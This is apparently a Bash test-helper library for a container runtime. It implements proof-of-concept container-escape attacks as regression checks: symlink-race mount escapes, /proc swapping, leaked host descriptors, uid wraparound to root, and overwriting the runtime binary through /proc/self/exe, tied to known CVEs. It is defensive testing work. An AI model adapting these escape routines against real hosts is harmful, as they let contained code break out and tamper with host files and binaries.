# SPDX-License-Identifier: Apache-2.0
# Attacks on the runtime, as functions that succeed when the attack does. Each takes the programs' directory, so that the
# same attack runs against the build as it is (it must fail) and against one without the defence (it must succeed).

# fails ATTACK...: for the middle of a test, where `!` would be no condition.
fails() {
	if "$@"; then
		echo "succeeded: $*"
		return 1
	fi
}

# bundle_attack DIR [user]: a bundle for attacks; with "user", in a user namespace of its own.
bundle_attack() {
	mkdir -p "$1"
	bundle_new "$1"
	chmod 0755 "$1" "$1/rootfs"
	[ "${2:-}" != user ] || bundle_userns "$1"
}

bundle_userns() {
	config_edit "$1" '.linux.namespaces += [{"type":"user"}] |
		.linux.uidMappings = [{"containerID":0,"hostID":100000,"size":65536}] | .linux.gidMappings = .linux.uidMappings'
	chown -R 100000:100000 "$1/rootfs"
}

# bundle_script DIR SCRIPT: the bundle's program becomes a shell script.
bundle_script() {
	config_edit "$1" ".process.args = [\"sh\", \"-c\", $(jq -Rs . <<<"$2")]"
}

# The runtime of a programs' directory, with a state root of the test.
runtime_of() {
	local programs=$1
	shift
	"$programs/lighter-runtime" --root "$BATS_TEST_TMPDIR/state" "$@"
}

runtime_cleanup() {
	local id
	for id in "$BATS_TEST_TMPDIR"/state/*/; do
		[ ! -d "$id" ] || lighter-runtime --root "$BATS_TEST_TMPDIR/state" delete -f "$(basename "$id")"
	done
}

# ---- PATH ----

# A directory of the host that every user may reach and change; its name is in $HOST.
host_directory() {
	local up
	HOST=$(mktemp -d "$BATS_TEST_TMPDIR/host.XXXXXX")
	chmod 0777 "$HOST"
	echo secret >"$HOST/canary"
	up=$BATS_TEST_TMPDIR
	while [ "$up" != "${LIGHTER_CAPSULE%/*}" ]; do
		chmod a+rx "$up"
		up=${up%/*}
	done
}

# What an attack could have changed of it.
host_state() {
	find "$HOST" -printf '%P %y %m %U %G %s %l\n' | sort
	cat "$HOST/canary"
}

# A mount point below a link of the image that leads to a directory of the host.
attack_mount_point() { # PROGRAMS BUNDLE
	host_directory
	mkdir -p "$2/rootfs/$HOST"
	ln -sfn "$HOST" "$2/rootfs/data"
	bundle_script "$2" 'true'
	config_edit "$2" '.mounts += [{"destination":"/data/made/here","type":"tmpfs","source":"tmpfs"}]'
	runtime_of "$1" run -b "$2" attack </dev/null || true
	[ -e "$HOST/made" ]
}

# A masked path that is a link of the image: resolved outside, the mask lands elsewhere and the program reads the file.
attack_masked_path() { # PROGRAMS BUNDLE
	echo secret >"$2/rootfs/secret"
	ln -sfn /secret "$2/rootfs/etc/masked"
	bundle_script "$2" 'cat /etc/masked'
	config_edit "$2" '.linux.maskedPaths = ["/etc/masked"]'
	[ "$(runtime_of "$1" run -b "$2" attack </dev/null)" = secret ]
}

# race_volume BUNDLE: a volume of the host on /mnt, in which `target` is now a directory, now a link to $HOST/victim.
race_volume() {
	host_directory
	mkdir -p "$HOST/volume/target" "$HOST/victim" "$1/rootfs/mnt" "$1/rootfs/$HOST/victim"
	ln -sfn "$HOST/victim" "$HOST/volume/link"
	config_edit "$1" ".mounts += [{\"destination\":\"/mnt\",\"type\":\"bind\",\"source\":\"$HOST/volume\",\"options\":[\"rbind\"]}]"
}

# race SECONDS COMMAND...: runs COMMAND again and again while two names of the volume, `target` and `link` (RACE_NAMES),
# change places, until it succeeds.
race() {
	local until=$((SECONDS + $1)) exchange status=1
	shift
	# shellcheck disable=SC2086 # two words
	"$BUILD/tests/exchange" "${RACE_DIR:-$HOST/volume}" ${RACE_NAMES:-target link} 3>&- &
	exchange=$!
	while [ "$status" -ne 0 ] && [ "$SECONDS" -lt "$until" ]; do
		"$@" && status=0
	done
	kill "$exchange"
	wait "$exchange" 2>/dev/null || true
	return "$status"
}

# A directory is made on the host (CVE-2024-45310).
attack_made_outside() { # PROGRAMS BUNDLE
	rmdir "$HOST"/volume/*/made "$2/rootfs/$HOST/victim/made" 2>/dev/null # of the last time: what is there is not made
	runtime_of "$1" run -b "$2" attack </dev/null >"$BATS_TEST_TMPDIR/said" 2>&1 || true
	[ -e "$HOST/victim/made" ]
}

race_made_outside() { # SECONDS PROGRAMS BUNDLE
	race_volume "$3"
	bundle_script "$3" true
	config_edit "$3" '.mounts += [{"destination":"/mnt/target/made","type":"tmpfs","source":"raced"}]'
	race "$1" attack_made_outside "$2" "$3"
}

# A mount lands outside: the container runs and does not have it (CVE-2021-30465).
attack_mounted_outside() { # PROGRAMS BUNDLE
	[ "$(runtime_of "$1" run -b "$2" attack </dev/null 2>/dev/null)" = 0 ]
}

race_mounted_outside() { # SECONDS PROGRAMS BUNDLE
	race_volume "$3"
	bundle_script "$3" 'grep -c " raced " /proc/self/mountinfo'
	config_edit "$3" '.mounts += [{"destination":"/mnt/target","type":"tmpfs","source":"raced"}]'
	race "$1" attack_mounted_outside "$2" "$3"
}

# The root file system itself is shared with somebody who exchanges its /proc with a link (CVE-2019-19921).
race_proc() { # BUNDLE
	mkdir -p "$1/rootfs/evil"
	ln -sfn evil "$1/rootfs/link"
	# Whichever name leads to it now: once inside, names count no more.
	bundle_script "$1" 'for p in /proc /link /proc /link /proc /link; do
			cd $p && [ -e self/status ] || continue
			[ "$(stat -c %t:%T keys)" = 1:3 ] && ! ( : >>sys/kernel/hostname ) 2>/dev/null && echo covered || echo open
			exit
		done'
	config_edit "$1" '.linux.maskedPaths = ["/proc/keys"] | .linux.readonlyPaths = ["/proc/sys"]'
}

# The container runs, and its mask is missing, or its read-only path can be written to.
attack_unmasked() { # PROGRAMS BUNDLE
	[ "$(runtime_of "$1" run -b "$2" attack </dev/null 2>/dev/null)" = open ]
}

# A /dev that is bound from a directory which somebody else can change.
bound_dev() { # BUNDLE
	host_directory
	mkdir -p "$HOST/volume/pts" "$HOST/volume/shm"
	mknod "$HOST/volume/null" c 1 3
	ln -sfn /proc/sys/kernel/core_pattern "$HOST/volume/link"
	echo secret >"$1/rootfs/secret"
	config_edit "$1" '.mounts |= map(select(.destination != "/dev")) | .linux.maskedPaths = ["/secret"] |
		.mounts |= [.[0]] + [{"destination":"/dev","type":"bind","source":$ARGS.positional[0],"options":["rbind"]}] + .[1:]' \
		"$HOST/volume"
}

# The mask is something else than the null device: /proc/sys/kernel/core_pattern, which the program could write to.
attack_mask() { # PROGRAMS BUNDLE
	case $(runtime_of "$1" run -b "$2" attack </dev/null 2>/dev/null) in 1:3 | "") return 1 ;; esac
}

race_mask() { # SECONDS PROGRAMS BUNDLE
	bound_dev "$3"
	bundle_script "$3" 'stat -c %t:%T /secret'
	RACE_NAMES="null link" race "$1" attack_mask "$2" "$3"
}

# ---- FDLEAK ----

# The working directory is a descriptor that the caller or the runtime has open on a directory of the host.
attack_cwd_descriptor() { # PROGRAMS BUNDLE [exec]
	local n
	host_directory
	if [ "${3:-}" = exec ]; then
		bundle_script "$2" 'sleep 1000'
		config_edit "$2" '.process.cwd = "/"'
		runtime_of "$1" run -d -b "$2" attack </dev/null >"$BATS_TEST_TMPDIR/said" 2>&1
	fi
	for n in 9 4 6 8; do
		if [ "${3:-}" = exec ]; then
			[ "$(runtime_of "$1" exec --cwd "/proc/self/fd/$n" attack cat canary 9<"$HOST" 2>/dev/null)" != secret ] || return 0
		else
			config_edit "$2" ".process.cwd = \"/proc/self/fd/$n\" | .process.args = [\"cat\", \"canary\"]"
			[ "$(runtime_of "$1" run -b "$2" attack 9<"$HOST" </dev/null 2>/dev/null)" != secret ] || return 0
		fi
	done
	return 1
}

# The program looks for a directory of the host among its descriptors.
attack_inherited_descriptor() { # PROGRAMS BUNDLE
	host_directory
	bundle_script "$2" 'cat /proc/self/fd/*/canary 2>/dev/null'
	runtime_of "$1" run -b "$2" attack 9<"$HOST" 250<"$HOST" </dev/null | grep -q secret
}

# The same of `lighter exec`, whose monitor holds directories of the instance: is one of them the working directory?
attack_exec_directory() { # PROGRAMS CONTAINER
	local n
	for n in $(seq 3 30); do
		# What lies outside has no path inside: the program runs, and getcwd fails.
		[[ "$("$1/lighter" exec -w "/proc/self/fd/$n" "$2" pwd 2>&1)" != "pwd: getcwd:"* ]] || return 0
	done
	return 1
}

# ---- SELFEXE ----

# A process of the container executes /proc/self/exe, which is the runtime; another one opens it by /proc/PID/exe, waits
# for its end and writes to it (CVE-2019-5736). The runtime waits at a FIFO for the process that it is to start in
# container x, whose record the attacker has made.
attack_overwrite_runtime() { # PROGRAMS BUNDLE
	local programs
	programs=$(mktemp -d "$BATS_TEST_TMPDIR/programs.XXXXXX")
	cp "$1/lighter-runtime" "$programs/"
	bundle_script "$2" 'mkfifo /tmp/fifo
		echo "{\"ociVersion\":\"1.1.0\",\"id\":\"x\",\"pid\":1,\"startTime\":$(cut -d" " -f22 /proc/1/stat),\"bundle\":\"/\"}" \
			>/tmp/state/x/state.json
		: >/tmp/ready
		sleep 1000'
	config_edit "$2" '.linux.resources.devices += [{"allow":true,"access":"rwm"}]'
	mkdir -p "$2/rootfs/tmp/state/x"
	cp "$2/config.json" "$2/rootfs/tmp/state/x/"
	runtime_of "$programs" run -d -b "$2" attack </dev/null >"$BATS_TEST_TMPDIR/said" 2>&1
	wait_until test -e "$2/rootfs/tmp/ready"
	runtime_of "$programs" exec -d attack /proc/self/exe --root /tmp/state exec -p /tmp/fifo x \
		</dev/null >"$BATS_TEST_TMPDIR/said" 2>&1
	# The victim waits for the FIFO's writer; until it has ended its file is busy.
	runtime_of "$programs" exec -d attack sh -c '
		i=0 # it may still be on its way to the FIFO
		until [ $i -eq 50 ] || { [ -n "$victim" ] && ( : <$victim/exe ); }; do
			for p in /proc/[0-9]*; do
				case $(tr "\0" " " <$p/cmdline) in *" -p /tmp/fifo"" x "*) victim=$p ;; esac
			done
			i=$((i + 1))
			usleep 20000
		done 2>/tmp/errors
		exec 3<$victim/exe && : >/tmp/opened
		echo >/tmp/fifo
		i=0
		while [ $i -lt 200 ] && ! echo overwritten >/proc/self/fd/3; do i=$((i + 1)); usleep 1000; done 2>/tmp/errors
		: >/tmp/done' </dev/null >"$BATS_TEST_TMPDIR/said" 2>&1
	wait_until test -e "$2/rootfs/tmp/done"
	[ -e "$2/rootfs/tmp/opened" ] || { echo "the attack did not open the program"; exit 1; }
	runtime_cleanup
	! cmp -s "$1/lighter-runtime" "$programs/lighter-runtime"
}

# ---- IDENT ----

# An id that is 0 when its upper bits are cut off, as root.
attack_exec_wrapped_id() { # PROGRAMS BUNDLE ID
	if [ ! -d "$BATS_TEST_TMPDIR/state/attack" ]; then
		bundle_script "$2" 'sleep 1000'
		config_edit "$2" '.process.user = {"uid":5,"gid":5}'
		runtime_of "$1" run -d -b "$2" attack </dev/null >"$BATS_TEST_TMPDIR/said" 2>&1
	fi
	[ "$(runtime_of "$1" exec -u "$3" attack id -u 2>/dev/null)" = 0 ]
}

# The image attack:passwd, whose user `evil` has the id 2^32, and whose root is also called 1000.
image_attack_passwd() {
	local work=$BATS_TEST_TMPDIR/image
	rootfs_busybox "$work/root"
	sed -i '1i 1000:x:0:0:root:/root:/bin/sh' "$work/root/etc/passwd"
	echo 'evil:x:4294967296:4294967296:evil:/:/bin/sh' >>"$work/root/etc/passwd"
	sed -i '1i 1000:x:0:' "$work/root/etc/group"
	tar -C "$work/root" --numeric-owner --owner 0 --group 0 -cf "$work/layer.tar" .
	python3 "$BATS_TEST_DIRNAME/../lib/oci_layout.py" "$work/layout" attack:passwd "$work/layer.tar"
	tar -C "$work/layout" -cf "$work/layout.tar" .
	lighter load -q -i "$work/layout.tar"
}

attack_run_wrapped_id() { # PROGRAMS USER
	[ "$("$1/lighter" run --rm -u "$2" attack:passwd id -u 2>/dev/null)" = 0 ]
}

# ---- JOIN ----

# onlooker PROGRAMS BUNDLE [CAPABILITY...]: another process of the container, with these capabilities, looks at the ones
# that `exec` makes. What it saw of processes that are not the program yet is printed.
onlooker() {
	local programs=$1 bundle=$2 i
	shift 2
	rm -f "$bundle/rootfs/tmp/stop"
	cp "$BUILD/tests/onlooker" "$bundle/rootfs/bin/onlooker"
	config_edit "$bundle" ".process.args = [\"onlooker\", \"/tmp/stop\"] |
		.process.capabilities |= map_values(\$ARGS.positional)" "$@"
	runtime_of "$programs" run -d -b "$bundle" attack </dev/null >"$BATS_TEST_TMPDIR/seen" 2>&1
	for i in $(seq "${LOOKS:-20}"); do
		runtime_of "$programs" exec -e "SECRET=$BATS_TEST_TMPDIR" attack true
	done
	: >"$bundle/rootfs/tmp/stop"
	wait_until grep -q '^looks [1-9]' "$BATS_TEST_TMPDIR/seen"
	runtime_cleanup
	# Of the program itself everything may be seen.
	grep -vE '^(looks|exe /bin/true$|cwd /$|root /$|ns/mnt|cmdline true|environ PATH=|maps [0-9a-f]*-[^ ]* r--p 0* .*/bin/true)' \
		"$BATS_TEST_TMPDIR/seen"
}

# Does it see anything but two words? (CVE-2016-9962)
attack_onlooker() { # PROGRAMS BUNDLE [CAPABILITY...]
	onlooker "$@" | grep -v '^cmdline lighter-runtime exec *$'
}
